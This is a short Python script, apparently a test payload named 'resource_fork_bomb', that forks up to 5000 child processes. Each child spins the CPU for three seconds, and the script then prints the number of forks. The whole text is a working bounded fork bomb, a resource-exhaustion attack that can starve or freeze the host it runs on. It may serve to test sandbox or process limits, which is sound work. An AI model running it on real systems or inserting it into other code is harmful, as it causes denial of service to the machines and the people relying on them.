import os, time
forked = 0
try:
    while forked < 5000:
        if os.fork() == 0:
            end = time.monotonic() + 3
            while time.monotonic() < end:
                pass
            os._exit(0)
        forked += 1
except OSError:
    pass
print("PAYLOAD resource_fork_bomb", forked, flush=True)
